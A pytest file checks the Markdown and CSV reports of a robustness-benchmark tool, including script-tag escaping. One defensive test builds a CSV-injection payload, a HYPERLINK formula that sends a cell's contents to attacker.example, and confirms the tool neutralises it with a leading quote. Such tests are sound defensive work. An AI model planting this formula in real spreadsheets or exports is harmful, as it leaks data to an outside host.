"""Markdown and long-format CSV reports."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from corruptbench.cli import main
from results.support import EVIL


def test_markdown(three: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "r.md"
    assert main(["report", *map(str, three), "--out", str(out)]) == 0
    md = out.read_text(encoding="utf-8")
    assert md.startswith("## Robustness summary")
    assert "| Model | Clean error | mCE |" in md
    assert "<script>" not in md and "&lt;script&gt;" in md
    lines = [ln for ln in md.splitlines() if ln.startswith("| ")]
    assert all(ln.count("|") == lines[0].count("|") for ln in lines[:4])  # header + 3 models


def test_csv(three: list[Path], tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert main(["report", *map(str, three), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert set(rows[0]) == {"model", "file", "metric", "name", "severity", "value"}
    errs = [r for r in rows if r["model"] == "alexnet" and r["metric"] == "error"]
    assert len(errs) == 19 * 5
    fog3 = next(r for r in errs if r["name"] == "fog" and r["severity"] == "3")
    data = json.loads(three[1].read_text())
    assert float(fog3["value"]) == pytest.approx(data["errors"]["fog"][2])
    assert any(r["metric"] == "flip_probability" and r["model"] == EVIL for r in rows)


def test_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    """A model id like =HYPERLINK(...) was written raw: a spreadsheet would run it (CSV injection,
    OWASP). It is written as text, with a leading quote; the numbers stay numbers."""
    from results.support import make_results, write

    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    path = write(tmp_path, "h.json", make_results(evil, 0.8, 0.2, seed=4))
    out = tmp_path / "r.csv"
    assert main(["report", str(path), "--format", "csv", "--out", str(out)]) == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert {r["model"] for r in rows} == {"'" + evil}
    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r)
    assert all(float(r["value"]) >= 0 for r in rows if r["value"])
